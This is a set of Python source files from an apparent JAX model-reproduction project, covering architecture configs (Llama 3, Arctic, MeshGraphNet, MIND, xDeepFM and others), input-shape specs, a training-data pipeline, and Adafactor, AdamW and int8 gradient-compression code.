  minibatch_lg  : sampled subgraph of a 232965-node/114.6M-edge graph,
                  batch_nodes=1024 fanout 15-10 -> 169984 nodes,
                  168960 edges, d_feat=602 (the real neighbor sampler
                  lives in models/gnn.neighbor_sample)
  ogb_products  : n_nodes=2449029->2449408  n_edges=61859140->61859328
                  d_feat=100
  molecule      : 128 graphs x 30 nodes / 64 edges -> 3840 nodes,
                  8192 edges, d_feat=16
"""
import numpy as np

from ..models.gnn import GNNConfig
from .base import ArchSpec, ShapeSpec, gnn_input_specs, pad_to

CONFIG = GNNConfig(name="meshgraphnet", n_layers=15, d_hidden=128,
                   mlp_layers=2, aggregator="sum", d_node_in=1433,
                   d_edge_in=4, d_out=16)

SMOKE = GNNConfig(name="mgn-smoke", n_layers=3, d_hidden=16, mlp_layers=2,
                  aggregator="sum", d_node_in=8, d_edge_in=4, d_out=4)

SHAPES = {
    "full_graph_sm": ShapeSpec(
        "full_graph_sm", "train",
        dict(n_nodes=2708, n_edges=pad_to(10556, 512), d_feat=1433)),
    "minibatch_lg": ShapeSpec(
        "minibatch_lg", "train",
        dict(n_nodes=169984, n_edges=168960, d_feat=602)),
    "ogb_products": ShapeSpec(
        "ogb_products", "train",
        dict(n_nodes=pad_to(2449029, 512), n_edges=pad_to(61859140, 512),
             d_feat=100)),
    "molecule": ShapeSpec(
        "molecule", "train",
        dict(n_nodes=3840, n_edges=8192, d_feat=16)),
}


def inputs(cfg, shape):
    # d_node_in follows the shape's d_feat
    from dataclasses import replace
    cfg = replace(cfg, d_node_in=shape.dims["d_feat"])
    return gnn_input_specs(cfg, shape)


def smoke_batch(cfg, rng):
    import jax.numpy as jnp
    n, e = 24, 64
    return {
        "nodes": jnp.asarray(rng.normal(size=(n, cfg.d_node_in)),
                             jnp.float32),
        "edges": jnp.asarray(rng.normal(size=(e, cfg.d_edge_in)),
                             jnp.float32),
        "senders": jnp.asarray(rng.integers(0, n, e), jnp.int32),
        "receivers": jnp.asarray(rng.integers(0, n, e), jnp.int32),
        "edge_mask": jnp.ones((e,), jnp.float32),
        "node_mask": jnp.ones((n,), jnp.float32),
        "targets": jnp.asarray(rng.normal(size=(n, cfg.d_out)), jnp.float32),
    }


SPEC = ArchSpec(
    id="meshgraphnet", family="gnn", source="arXiv:2010.03409; unverified",
    config=CONFIG, smoke_config=SMOKE, shapes=SHAPES,
    optimizer="adamw",
    inputs=inputs, smoke_batch=smoke_batch,
    notes="segment_sum message passing; edges shard over all mesh axes; "
          "graph shapes padded to multiples of 512 for the pod mesh")
