"""Config substrate: ArchSpec / ShapeSpec and the input_specs() contract.

Every assigned architecture registers an ArchSpec carrying
  * the exact published model config,
  * its own shape set (each cell of the dry-run matrix),
  * a reduced smoke config (same family, CPU-runnable),
  * family-specific step kinds ('train' | 'prefill' | 'decode' |
    'serve' | 'retrieval').

``input_specs(arch, shape)`` returns jax.ShapeDtypeStruct stand-ins for
every input of the lowered step — weak-type-correct, shardable, zero
allocation — exactly what jit(...).lower() consumes for the multi-pod
dry-run.
"""
from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Callable

import jax
import jax.numpy as jnp


def sds(shape, dtype):
    return jax.ShapeDtypeStruct(tuple(int(x) for x in shape),
                                jnp.dtype(dtype))


def pad_to(n: int, mult: int) -> int:
    return -(-n // mult) * mult


@dataclass(frozen=True)
class ShapeSpec:
    name: str
    kind: str                    # train|prefill|decode|serve|retrieval
    dims: dict = field(default_factory=dict)
    n_microbatches: int = 1      # LM train grad-accumulation
    decode_policy: str = "batch"  # 'batch' | 'seq': cache sharding axis
    skip: str | None = None      # reason string if the cell is skipped


@dataclass(frozen=True)
class ArchSpec:
    id: str
    family: str                  # lm|gnn|recsys
    source: str                  # citation tag from the assignment
    config: Any                  # family config dataclass (full size)
    shapes: dict                 # name -> ShapeSpec
    smoke_config: Any            # reduced config, CPU-runnable
    optimizer: str = "adamw"     # adamw | adafactor
    grad_accum_dtype: str = "float32"
    fsdp: bool = False           # shard params over 'data' as well
    notes: str = ""
    inputs: Callable = None      # (config, ShapeSpec) -> ShapeDtypeStruct tree
    smoke_batch: Callable = None  # (smoke_config, rng) -> real small batch

    def shape(self, name: str) -> ShapeSpec:
        return self.shapes[name]

    def cells(self):
        """All (arch, shape) dry-run cells incl. skipped ones."""
        return [(self.id, s) for s in self.shapes]


# ------------------------------------------------------- LM input specs
LM_SHAPES = dict(
    train_4k=dict(seq=4096, batch=256),
    prefill_32k=dict(seq=32768, batch=32),
    decode_32k=dict(seq=32768, batch=128),
    long_500k=dict(seq=524288, batch=1),
)


def lm_shapes(*, n_micro: dict | None = None, skip_long: str | None = None):
    n_micro = n_micro or {}
    return {
        "train_4k": ShapeSpec("train_4k", "train", LM_SHAPES["train_4k"],
                              n_microbatches=n_micro.get("train_4k", 4)),
        "prefill_32k": ShapeSpec("prefill_32k", "prefill",
                                 LM_SHAPES["prefill_32k"]),
        "decode_32k": ShapeSpec("decode_32k", "decode",
                                LM_SHAPES["decode_32k"],
                                decode_policy="batch"),
        "long_500k": ShapeSpec("long_500k", "decode",
                               LM_SHAPES["long_500k"],
                               decode_policy="seq", skip=skip_long),
    }


def lm_input_specs(cfg, shape: ShapeSpec):
    b, s = shape.dims["batch"], shape.dims["seq"]
    if shape.kind == "train":
        return {"tokens": sds((b, s), "int32"),
                "labels": sds((b, s), "int32"),
                "mask": sds((b, s), "float32")}
    if shape.kind == "prefill":
        return {"tokens": sds((b, s), "int32")}
    if shape.kind == "decode":
        cache_shape = (cfg.n_layers, b, s, cfg.n_kv_heads, cfg.head_dim)
        return {"cache": {"k": sds(cache_shape, cfg.dtype),
                          "v": sds(cache_shape, cfg.dtype)},
                "tokens": sds((b,), "int32")}
    raise ValueError(shape.kind)


# ------------------------------------------------------ GNN input specs
def gnn_input_specs(cfg, shape: ShapeSpec):
    d = shape.dims
    n, e = d["n_nodes"], d["n_edges"]
    return {"nodes": sds((n, d["d_feat"]), cfg.dtype),
            "edges": sds((e, cfg.d_edge_in), cfg.dtype),
            "senders": sds((e,), "int32"),
            "receivers": sds((e,), "int32"),
            "edge_mask": sds((e,), cfg.dtype),
            "node_mask": sds((n,), cfg.dtype),
            "targets": sds((n, cfg.d_out), cfg.dtype)}


# --------------------------------------------------- RecSys input specs
RECSYS_SHAPES = dict(
    train_batch=dict(batch=65536),
    serve_p99=dict(batch=512),
    serve_bulk=dict(batch=262144),
    retrieval_cand=dict(batch=1, n_candidates=1_048_576),  # 1M padded /512
)


def recsys_shapes():
    return {
        "train_batch": ShapeSpec("train_batch", "train",
                                 RECSYS_SHAPES["train_batch"]),
        "serve_p99": ShapeSpec("serve_p99", "serve",
                               RECSYS_SHAPES["serve_p99"]),
        "serve_bulk": ShapeSpec("serve_bulk", "serve",
                                RECSYS_SHAPES["serve_bulk"]),
        "retrieval_cand": ShapeSpec("retrieval_cand", "retrieval",
                                    RECSYS_SHAPES["retrieval_cand"]),
    }
