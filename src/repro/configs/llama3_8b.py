"""llama3-8b [arXiv:2407.21783; unverified]: 32L d_model=4096 32H (GQA kv=8)
d_ff=14336 vocab=128256 — RoPE theta 500000, SwiGLU, untied embeddings.

long_500k skipped: pure full-attention arch (per task instructions)."""
import numpy as np

from ..models.transformer import LMConfig
from .base import ArchSpec, lm_input_specs, lm_shapes

CONFIG = LMConfig(
    name="llama3-8b", n_layers=32, d_model=4096, n_heads=32, n_kv_heads=8,
    d_ff=14336, vocab=128256, rope_theta=500000.0, tie_embeddings=False,
    dtype="bfloat16")

SMOKE = LMConfig(
    name="llama3-smoke", n_layers=3, d_model=64, n_heads=4, n_kv_heads=2,
    d_ff=160, vocab=384, rope_theta=500000.0, tie_embeddings=False,
    dtype="float32", q_chunk=16, kv_chunk=16, ce_chunk=16)


def smoke_batch(cfg, rng):
    import jax.numpy as jnp
    toks = np.asarray(rng.integers(0, cfg.vocab, (2, 32)), np.int32)
    return {"tokens": jnp.asarray(toks),
            "labels": jnp.asarray(np.roll(toks, -1, 1)),
            "mask": jnp.ones((2, 32), jnp.float32)}


SPEC = ArchSpec(
    id="llama3-8b", family="lm", source="arXiv:2407.21783; unverified",
    config=CONFIG, smoke_config=SMOKE,
    shapes=lm_shapes(n_micro={"train_4k": 4},
                     skip_long="pure full-attention arch: 500k decode cell "
                               "skipped per task instructions"),
    optimizer="adamw", fsdp=True,
    inputs=lm_input_specs, smoke_batch=smoke_batch,
    notes="GQA kv=8, 128k vocab")
