"""arctic-480b [hf:Snowflake/snowflake-arctic-base; hf]: 35L d_model=7168
56H (GQA kv=8) d_ff=4864 vocab=32000, MoE 128 experts top-2 PLUS a dense
residual FFN in parallel (Arctic's dense-MoE hybrid).

Scale notes: ~480B params.  At 256 chips this trains only with
  * FSDP over 'data' for every weight (params bf16: 3.75 GB/chip),
  * expert parallelism over 'model' (8 experts/chip),
  * factored second-moment optimizer (adafactor) with bf16 first moment,
  * 16 microbatches (1 sequence/chip/microbatch) + full remat.
56 heads % 16 != 0: attention weights shard on the fused (H*Dh)=7168 dim.

long_500k skipped: pure full-attention arch (per task instructions)."""
import numpy as np

from ..models.transformer import LMConfig
from .base import ArchSpec, lm_input_specs, lm_shapes

CONFIG = LMConfig(
    name="arctic-480b", n_layers=35, d_model=7168, n_heads=56, n_kv_heads=8,
    d_ff=4864, vocab=32000, d_head=128, rope_theta=10000.0,
    n_experts=128, top_k=2, moe_dff=4864, dense_residual=True,
    dense_residual_dff=4864, tie_embeddings=False, dtype="bfloat16")

SMOKE = LMConfig(
    name="arctic-smoke", n_layers=2, d_model=32, n_heads=7, n_kv_heads=1,
    d_ff=48, vocab=128, d_head=8, n_experts=8, top_k=2, moe_dff=48,
    dense_residual=True, dense_residual_dff=48, tie_embeddings=False,
    dtype="float32", q_chunk=16, kv_chunk=16, ce_chunk=16)


def smoke_batch(cfg, rng):
    import jax.numpy as jnp
    toks = np.asarray(rng.integers(0, cfg.vocab, (2, 32)), np.int32)
    return {"tokens": jnp.asarray(toks),
            "labels": jnp.asarray(np.roll(toks, -1, 1)),
            "mask": jnp.ones((2, 32), jnp.float32)}


SPEC = ArchSpec(
    id="arctic-480b", family="lm",
    source="hf:Snowflake/snowflake-arctic-base; hf",
    config=CONFIG, smoke_config=SMOKE,
    shapes=lm_shapes(n_micro={"train_4k": 16},
                     skip_long="pure full-attention arch: 500k decode cell "
                               "skipped per task instructions"),
    optimizer="adafactor", grad_accum_dtype="bfloat16", fsdp=True,
    inputs=lm_input_specs, smoke_batch=smoke_batch,
    notes="128e top-2 + dense residual; adafactor+bf16 accum for memory")
