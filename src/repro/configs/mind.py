"""mind [arXiv:1904.08030; unverified]: embed_dim=64 n_interests=4
capsule_iters=3 interaction=multi-interest.  1M-item corpus, 50-step
behavior sequences, 20 sampled negatives."""
import numpy as np

from ..models.recsys import MINDConfig
from .base import ArchSpec, ShapeSpec, recsys_shapes, sds

CONFIG = MINDConfig(name="mind", n_items=1_000_000, embed_dim=64,
                    n_interests=4, capsule_iters=3, seq_len=50)

SMOKE = MINDConfig(name="mind-smoke", n_items=512, embed_dim=16,
                   n_interests=4, capsule_iters=3, seq_len=10)

N_NEG = 20
SERVE_CANDS = 1024


def inputs(cfg, shape):
    d = shape.dims
    L = cfg.seq_len
    if shape.kind == "train":
        return {"seq": sds((d["batch"], L), "int32"),
                "pos": sds((d["batch"],), "int32"),
                "neg": sds((d["batch"], N_NEG), "int32")}
    if shape.kind == "serve":
        return {"seq": sds((d["batch"], L), "int32"),
                "cand": sds((d["batch"], SERVE_CANDS), "int32")}
    if shape.kind == "retrieval":
        return {"seq": sds((1, L), "int32"),
                "cand": sds((d["n_candidates"],), "int32")}
    raise ValueError(shape.kind)


def smoke_batch(cfg, rng):
    import jax.numpy as jnp
    b, L = 8, cfg.seq_len
    return {"seq": jnp.asarray(rng.integers(1, cfg.n_items, (b, L)),
                               jnp.int32),
            "pos": jnp.asarray(rng.integers(1, cfg.n_items, (b,)),
                               jnp.int32),
            "neg": jnp.asarray(rng.integers(1, cfg.n_items, (b, N_NEG)),
                               jnp.int32)}


SPEC = ArchSpec(
    id="mind", family="recsys", source="arXiv:1904.08030; unverified",
    config=CONFIG, smoke_config=SMOKE, shapes=recsys_shapes(),
    optimizer="adamw",
    inputs=inputs, smoke_batch=smoke_batch,
    notes="B2I capsule routing (3 iters, 4 interests); max-over-interests "
          "scoring")
