"""two-tower-retrieval [RecSys'19 (YouTube); unverified]: embed_dim=256
tower_mlp=1024-512-256 interaction=dot, sampled-softmax retrieval with
logQ correction.  8 user / 4 item hashed feature fields x 1M rows x 64,
1M-item precomputed serving corpus."""
import numpy as np

from ..models.recsys import TwoTowerConfig
from .base import ArchSpec, ShapeSpec, recsys_shapes, sds

CONFIG = TwoTowerConfig(name="two-tower-retrieval", embed_dim=256,
                        tower_mlp=(1024, 512, 256), n_user_fields=8,
                        n_item_fields=4, field_vocab=1_000_000,
                        field_dim=64, n_corpus=1_048_576)

SMOKE = TwoTowerConfig(name="two-tower-smoke", embed_dim=32,
                       tower_mlp=(64, 32), n_user_fields=4,
                       n_item_fields=2, field_vocab=128, field_dim=8,
                       n_corpus=1024)


def inputs(cfg, shape):
    d = shape.dims
    if shape.kind == "train":
        return {"user_idx": sds((d["batch"], cfg.n_user_fields), "int32"),
                "item_idx": sds((d["batch"], cfg.n_item_fields), "int32"),
                "logq": sds((d["batch"],), "float32")}
    if shape.kind == "serve":
        return {"user_idx": sds((d["batch"], cfg.n_user_fields), "int32"),
                "item_idx": sds((d["batch"], cfg.n_item_fields), "int32")}
    if shape.kind == "retrieval":
        return {"user_idx": sds((1, cfg.n_user_fields), "int32")}
    raise ValueError(shape.kind)


def smoke_batch(cfg, rng):
    import jax.numpy as jnp
    b = 8
    return {"user_idx": jnp.asarray(
        rng.integers(0, cfg.field_vocab, (b, cfg.n_user_fields)), jnp.int32),
        "item_idx": jnp.asarray(
        rng.integers(0, cfg.field_vocab, (b, cfg.n_item_fields)), jnp.int32),
        "logq": jnp.zeros((b,), jnp.float32)}


SPEC = ArchSpec(
    id="two-tower-retrieval", family="recsys",
    source="RecSys'19 (YouTube); unverified",
    config=CONFIG, smoke_config=SMOKE, shapes=recsys_shapes(),
    optimizer="adamw",
    inputs=inputs, smoke_batch=smoke_batch,
    notes="in-batch sampled softmax + logQ; retrieval_cand is the 1M-corpus "
          "GEMV (kernels/retrieval_score fast path; optional DynaWarp "
          "membership pre-filter — beyond-paper ablation)")
