"""Architecture registry: ``get_arch(id)`` / ``ARCHS`` back --arch flags.

The ten assigned architectures + the paper's own config (dynawarp/copr).
"""
from . import (arctic_480b, gemma2_9b, llama3_8b, meshgraphnet, mind,
               olmo_1b, phi35_moe, sasrec, two_tower, xdeepfm)
from .base import ArchSpec, ShapeSpec
from .dynawarp import CONFIG as DYNAWARP_CONFIG
from .dynawarp import SMOKE as DYNAWARP_SMOKE
from .dynawarp import DynaWarpConfig

ARCHS: dict[str, ArchSpec] = {
    spec.id: spec for spec in [
        gemma2_9b.SPEC, olmo_1b.SPEC, llama3_8b.SPEC, phi35_moe.SPEC,
        arctic_480b.SPEC, meshgraphnet.SPEC, xdeepfm.SPEC, sasrec.SPEC,
        mind.SPEC, two_tower.SPEC,
    ]
}


def get_arch(arch_id: str) -> ArchSpec:
    if arch_id in ("dynawarp", "copr"):
        raise ValueError(
            "dynawarp/copr is the paper's log-store config, not a model "
            "arch; use repro.configs.DYNAWARP_CONFIG / the logstore API")
    if arch_id not in ARCHS:
        raise KeyError(f"unknown arch {arch_id!r}; known: {sorted(ARCHS)}")
    return ARCHS[arch_id]


def all_cells(include_skipped: bool = False):
    """Every (arch_id, shape_name) dry-run cell."""
    out = []
    for aid, spec in ARCHS.items():
        for sname, sspec in spec.shapes.items():
            if sspec.skip and not include_skipped:
                continue
            out.append((aid, sname))
    return out


__all__ = ["ARCHS", "ArchSpec", "ShapeSpec", "DYNAWARP_CONFIG",
           "DYNAWARP_SMOKE", "DynaWarpConfig", "get_arch", "all_cells"]
