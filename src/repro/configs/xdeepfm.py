"""xdeepfm [arXiv:1803.05170; paper]: n_sparse=39 embed_dim=10
cin_layers=200-200-200 mlp=400-400 interaction=cin.

Embedding substrate: 39 hashed fields x 1M rows x dim 10 = 390M rows,
one concatenated table row-sharded over 'model' (the huge_embedding axis).
"""
import numpy as np

from ..models.recsys import XDeepFMConfig
from .base import ArchSpec, ShapeSpec, recsys_shapes, sds

CONFIG = XDeepFMConfig(name="xdeepfm", n_sparse=39, vocab_per_field=1_000_000,
                       embed_dim=10, cin_layers=(200, 200, 200),
                       mlp_sizes=(400, 400))

SMOKE = XDeepFMConfig(name="xdeepfm-smoke", n_sparse=5, vocab_per_field=128,
                      embed_dim=8, cin_layers=(8, 8), mlp_sizes=(16, 16))


def inputs(cfg, shape):
    d = shape.dims
    if shape.kind == "train":
        return {"idx": sds((d["batch"], cfg.n_sparse), "int32"),
                "label": sds((d["batch"],), "float32")}
    if shape.kind == "serve":
        return {"idx": sds((d["batch"], cfg.n_sparse), "int32")}
    if shape.kind == "retrieval":
        return {"idx": sds((1, cfg.n_sparse), "int32"),
                "cand": sds((d["n_candidates"],), "int32")}
    raise ValueError(shape.kind)


def smoke_batch(cfg, rng):
    import jax.numpy as jnp
    b = 16
    return {"idx": jnp.asarray(
        rng.integers(0, cfg.vocab_per_field, (b, cfg.n_sparse)), jnp.int32),
        "label": jnp.asarray(rng.integers(0, 2, b), jnp.float32)}


SPEC = ArchSpec(
    id="xdeepfm", family="recsys", source="arXiv:1803.05170; paper",
    config=CONFIG, smoke_config=SMOKE, shapes=recsys_shapes(),
    optimizer="adamw",
    inputs=inputs, smoke_batch=smoke_batch,
    notes="CIN interaction; retrieval_cand = bulk CIN scoring of 1M "
          "candidate ids at field 0")
