"""olmo-1b [arXiv:2402.00838; hf]: 16L d_model=2048 16H (MHA, kv=16)
d_ff=8192 vocab=50304 — non-parametric LayerNorm, tied embeddings.

long_500k skipped: pure full-attention arch (per task instructions)."""
import numpy as np

from ..models.transformer import LMConfig
from .base import ArchSpec, lm_input_specs, lm_shapes

CONFIG = LMConfig(
    name="olmo-1b", n_layers=16, d_model=2048, n_heads=16, n_kv_heads=16,
    d_ff=8192, vocab=50304, rope_theta=10000.0, norm="nonparam",
    tie_embeddings=True, dtype="bfloat16")

SMOKE = LMConfig(
    name="olmo-smoke", n_layers=3, d_model=48, n_heads=4, n_kv_heads=4,
    d_ff=96, vocab=256, norm="nonparam", tie_embeddings=True,
    dtype="float32", q_chunk=16, kv_chunk=16, ce_chunk=16)


def smoke_batch(cfg, rng):
    import jax.numpy as jnp
    toks = np.asarray(rng.integers(0, cfg.vocab, (2, 32)), np.int32)
    return {"tokens": jnp.asarray(toks),
            "labels": jnp.asarray(np.roll(toks, -1, 1)),
            "mask": jnp.ones((2, 32), jnp.float32)}


SPEC = ArchSpec(
    id="olmo-1b", family="lm", source="arXiv:2402.00838; hf",
    config=CONFIG, smoke_config=SMOKE,
    shapes=lm_shapes(n_micro={"train_4k": 1},
                     skip_long="pure full-attention arch: 500k decode cell "
                               "skipped per task instructions"),
    optimizer="adamw", fsdp=False,
    inputs=lm_input_specs, smoke_batch=smoke_batch,
    notes="non-parametric LN; MHA (kv=16) shards cleanly over model=16")
