"""Deterministic training-data pipeline (checkpointable, sketch-filtered)."""
from .pipeline import LMTokenPipeline, SketchFilteredCorpus

__all__ = ["LMTokenPipeline", "SketchFilteredCorpus"]
