"""Training-data pipeline: deterministic, checkpointable, sketch-filtered.

Two layers:
  * ``SketchFilteredCorpus`` — the paper's technique as a first-class
    data-selection feature: a DynaWarp-indexed corpus yields only the
    compressed batches whose sketch matches the requested token filters
    (e.g. train on shards that mention "error" without decompressing the
    rest).  Filtering cost is the probe, not a scan.
  * ``LMTokenPipeline`` — seeded, stateless-per-step batch stream: batch
    t is a pure function of (seed, t), so preemption/restart resumes
    EXACTLY (the cursor is one integer in the checkpoint manifest) and
    any worker can produce any step (elastic re-sharding of the stream).
"""
from __future__ import annotations

from dataclasses import dataclass

import numpy as np


@dataclass
class SketchFilteredCorpus:
    """Wraps a finished DynaWarp log store as a filtered training corpus."""
    store: object                      # logstore.store.DynaWarpStore
    include_terms: tuple = ()          # AND of terms that must appear
    exclude_terms: tuple = ()          # batches containing these are dropped

    def selected_batches(self) -> np.ndarray:
        import numpy as np
        n = self.store.n_batches
        keep = np.ones(n, bool)
        for t in self.include_terms:
            cand = np.zeros(n, bool)
            cand[self.store.candidates_term(t)] = True
            keep &= cand
        for t in self.exclude_terms:
            cand = np.zeros(n, bool)
            cand[self.store.candidates_term(t)] = True
            keep &= ~cand
        return np.nonzero(keep)[0]

    def lines(self):
        from ..logstore.compress import decompress_batch
        for b in self.selected_batches():
            yield from decompress_batch(self.store.blobs[int(b)])


class LMTokenPipeline:
    """Deterministic (seed, step) -> batch token stream.

    ``text_source`` is any iterable of strings (e.g. a
    SketchFilteredCorpus); tokens are bytes of the text hashed into the
    vocab — a stand-in tokenizer with the right statistical shape for
    the smoke/regression training loops.
    """

    def __init__(self, text_source, *, vocab: int, batch: int, seq: int,
                 seed: int = 0, max_lines: int = 100_000):
        lines = []
        for i, line in enumerate(text_source):
            if i >= max_lines:
                break
            lines.append(line)
        corpus = "\n".join(lines).encode() or b"\0"
        self.tokens = (np.frombuffer(corpus, np.uint8).astype(np.int64)
                       * 2654435761 % max(vocab, 2)).astype(np.int32)
        self.vocab, self.batch, self.seq, self.seed = vocab, batch, seq, seed

    def batch_at(self, step: int) -> dict:
        """Pure function of (seed, step): the resume/elastic guarantee."""
        rng = np.random.default_rng((self.seed << 32) ^ step)
        n = len(self.tokens)
        starts = rng.integers(0, max(n - self.seq - 1, 1), self.batch)
        tok = np.stack([self.tokens[s:s + self.seq] if s + self.seq <= n
                        else np.resize(self.tokens, self.seq)
                        for s in starts])
        lab = np.stack([self.tokens[s + 1:s + self.seq + 1]
                        if s + self.seq + 1 <= n
                        else np.resize(self.tokens, self.seq)
                        for s in starts])
        return {"tokens": tok.astype(np.int32),
                "labels": lab.astype(np.int32),
                "mask": np.ones((self.batch, self.seq), np.float32)}

    def __iter__(self):
        step = 0
        while True:
            yield self.batch_at(step)
            step += 1
