"""Optimizers: pure-JAX AdamW and Adafactor (factored second moment)."""
from .adam import AdamConfig, AdamState, adam_update, global_norm, init_adam
from .adafactor import (AdafactorConfig, AdafactorState, adafactor_update,
                        init_adafactor)

__all__ = ["AdamConfig", "AdamState", "adam_update", "global_norm",
           "init_adam", "AdafactorConfig", "AdafactorState",
           "adafactor_update", "init_adafactor"]
