"""Adafactor-style optimizer: factored second moment + optional bf16 first
moment (Shazeer & Stern, arXiv:1804.04235).

Why it exists here: arctic-480b cannot hold Adam's two f32 moments on a
256-chip v5e pod (3.84 TB of optimizer state).  Factoring the second
moment reduces it to O(rows+cols) and the bf16 first moment halves the
rest: 480B params -> ~3.8 GB/chip of optimizer state under FSDP.

State leaves mirror the param tree:
  mu : like param (bf16 or f32) — first moment (beta1 > 0)
  vr : param.shape[:-1]         — row second-moment factor   (ndim >= 2)
  vc : param.shape[:-2]+[-1]    — col second-moment factor   (ndim >= 2)
       for ndim < 2, vr is the FULL second moment and vc is a (1,) stub.
"""
from __future__ import annotations

from dataclasses import dataclass
from typing import NamedTuple

import jax
import jax.numpy as jnp


@dataclass(frozen=True)
class AdafactorConfig:
    lr: float = 1e-4
    b1: float = 0.9
    decay: float = 0.99
    eps: float = 1e-30
    clip_threshold: float = 1.0
    weight_decay: float = 0.0
    warmup_steps: int = 100
    mu_dtype: str = "bfloat16"


class AdafactorState(NamedTuple):
    step: jnp.ndarray
    mu: object
    vr: object
    vc: object


def _factored(p) -> bool:
    return p.ndim >= 2


def init_adafactor(cfg: AdafactorConfig, params) -> AdafactorState:
    mu = jax.tree.map(
        lambda p: jnp.zeros(p.shape, jnp.dtype(cfg.mu_dtype)), params)
    vr = jax.tree.map(
        lambda p: jnp.zeros(p.shape[:-1], jnp.float32) if _factored(p)
        else jnp.zeros(p.shape, jnp.float32), params)
    vc = jax.tree.map(
        lambda p: jnp.zeros(p.shape[:-2] + p.shape[-1:], jnp.float32)
        if _factored(p) else jnp.zeros((1,), jnp.float32), params)
    return AdafactorState(step=jnp.zeros((), jnp.int32), mu=mu, vr=vr, vc=vc)


def adafactor_update(cfg: AdafactorConfig, params, grads,
                     state: AdafactorState):
    step = state.step + 1
    warm = jnp.minimum(step.astype(jnp.float32)
                       / max(cfg.warmup_steps, 1), 1.0)
    lr = cfg.lr * warm
    d = cfg.decay

    def upd(p, g, mu, vr, vc):
        if p.ndim >= 3 and p.shape[0] >= 8:
            # Layer-stacked leaf (L, ...): fori_loop over L with in-place
            # dynamic-update-slice so the f32 temporaries are bounded by
            # ONE layer slice, not the whole stack (2.27 GiB/leaf f32
            # spikes on arctic's expert weights), and the state buffers
            # alias in place.
            def body(i, carry):
                cp, cmu, cvr, cvc = carry
                sl = lambda a: jax.lax.dynamic_index_in_dim(
                    a, i, 0, keepdims=False)
                pn, mn, rn, cn = upd(sl(cp), sl(g), sl(cmu), sl(cvr),
                                     sl(cvc))
                ins = lambda a, v: jax.lax.dynamic_update_index_in_dim(
                    a, v, i, 0)
                return (ins(cp, pn), ins(cmu, mn), ins(cvr, rn),
                        ins(cvc, cn))
            return jax.lax.fori_loop(0, p.shape[0], body, (p, mu, vr, vc))
        g = g.astype(jnp.float32)
        g2 = jnp.square(g) + cfg.eps
        if _factored(p):
            vr = d * vr + (1 - d) * jnp.mean(g2, axis=-1)
            vc = d * vc + (1 - d) * jnp.mean(g2, axis=-2)
            rfac = jax.lax.rsqrt(
                vr / jnp.maximum(jnp.mean(vr, axis=-1, keepdims=True),
                                 cfg.eps) + cfg.eps)
            cfac = jax.lax.rsqrt(vc + cfg.eps)
            u = g * rfac[..., None] * cfac[..., None, :]
        else:
            vr = d * vr + (1 - d) * g2
            u = g * jax.lax.rsqrt(vr + cfg.eps)
        # update clipping (RMS <= clip_threshold)
        rms = jnp.sqrt(jnp.mean(jnp.square(u)) + 1e-30)
        u = u / jnp.maximum(1.0, rms / cfg.clip_threshold)
        if cfg.b1 > 0:
            mu = (cfg.b1 * mu.astype(jnp.float32)
                  + (1 - cfg.b1) * u).astype(mu.dtype)
            u = mu.astype(jnp.float32)
        delta = lr * (u + cfg.weight_decay * p.astype(jnp.float32))
        return (p.astype(jnp.float32) - delta).astype(p.dtype), mu, vr, vc

    flat_p, treedef = jax.tree.flatten(params)
    out = []
    prev = None
    for p, g, m, r, c in zip(
            flat_p, treedef.flatten_up_to(grads),
            treedef.flatten_up_to(state.mu), treedef.flatten_up_to(state.vr),
            treedef.flatten_up_to(state.vc)):
        if prev is not None:
            # serialize per-leaf updates: without the barrier XLA keeps
            # every leaf's f32 grad/update temporaries live simultaneously
            # (several GiB/leaf on arctic's expert weights).
            g, _ = jax.lax.optimization_barrier((g, prev))
        res = upd(p, g, m, r, c)
        prev = res[0]
        out.append(res)
    return (treedef.unflatten([o[0] for o in out]),
            AdafactorState(step=step,
                           mu=treedef.unflatten([o[1] for o in out]),
                           vr=treedef.unflatten([o[2] for o in out]),
                           vc=treedef.unflatten([o[3] for o in out])),
            dict(lr=lr))
