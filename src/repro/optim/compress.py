"""Gradient compression for cross-pod all-reduce: int8 quantization with
error feedback (1-bit-Adam-family trick, adapted to JAX collectives).

Cross-pod (DCN) links are an order of magnitude slower than in-pod ICI;
quantizing the pod-level gradient all-reduce to int8 cuts that wire
traffic 4x (bf16) with the residual fed back into the next step so the
quantization error stays unbiased over time.

Usage inside a shard_map'd train step:
    g_q, new_err = quantize_with_feedback(g, err)
    g_sum = jax.lax.psum(g_q.astype(jnp.bfloat16) * scale, 'pod')
Here we expose the quantize/dequantize pair + a pure-jnp reference
`compressed_psum` that tests verify is an unbiased estimator.
"""
from __future__ import annotations

import jax
import jax.numpy as jnp


def quantize_int8(x, *, axis=None):
    """Symmetric per-tensor int8 quantization: returns (q int8, scale)."""
    x32 = x.astype(jnp.float32)
    amax = jnp.max(jnp.abs(x32)) + 1e-12
    scale = amax / 127.0
    q = jnp.clip(jnp.round(x32 / scale), -127, 127).astype(jnp.int8)
    return q, scale


def dequantize_int8(q, scale):
    return q.astype(jnp.float32) * scale


def quantize_with_feedback(grad, err):
    """Error-feedback quantization: the part of (grad + err) lost to
    rounding becomes the next step's err."""
    target = grad.astype(jnp.float32) + err
    q, scale = quantize_int8(target)
    deq = dequantize_int8(q, scale)
    new_err = target - deq
    return q, scale, new_err


def compressed_psum(grad, err, axis_name):
    """Quantize -> psum -> dequantize with error feedback.  Returns
    (reduced_grad f32, new_err)."""
    q, scale, new_err = quantize_with_feedback(grad, err)
    # int8 payload over the wire; the scale is a scalar psum
    total = jax.lax.psum(q.astype(jnp.int32), axis_name)
    scale_sum = jax.lax.pmean(scale, axis_name)
    return total.astype(jnp.float32) * scale_sum, new_err


def init_error_feedback(params):
    return jax.tree.map(lambda p: jnp.zeros(p.shape, jnp.float32), params)
