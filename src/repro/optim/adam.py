"""Pure-JAX AdamW with mixed-precision state and gradient clipping.

Parameters may be bf16 (compute dtype); first/second moments are always
f32.  Weight decay is decoupled (AdamW).  No optax dependency — the
optimizer state is a plain pytree so it shards/checkpoints like params.
"""
from __future__ import annotations

from dataclasses import dataclass
from typing import NamedTuple

import jax
import jax.numpy as jnp


@dataclass(frozen=True)
class AdamConfig:
    lr: float = 3e-4
    b1: float = 0.9
    b2: float = 0.95
    eps: float = 1e-8
    weight_decay: float = 0.0
    grad_clip: float = 1.0
    warmup_steps: int = 100


class AdamState(NamedTuple):
    step: jnp.ndarray
    mu: object      # pytree like params, f32
    nu: object      # pytree like params, f32


def init_adam(params) -> AdamState:
    f32 = lambda p: jnp.zeros(p.shape, jnp.float32)
